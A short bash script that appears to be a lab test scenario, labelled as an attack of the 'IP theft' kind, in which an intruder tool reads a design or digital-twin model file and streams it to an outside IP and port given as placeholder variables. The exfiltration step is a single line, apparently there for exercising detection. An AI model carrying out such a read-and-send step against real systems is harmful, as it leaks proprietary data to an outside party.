#!/usr/bin/env bash
# scenario: one tool reads the design model and streams it to the outside host
# kind: attack
# vector: IP theft
# expect: Twin model or data read then sent out
# chain: script
set -euo pipefail
source "$LAB_ENV"
"$INTRUDER" readsend "$DESIGN" "$OUTSIDE_IP" "$OUTSIDE_PORT"
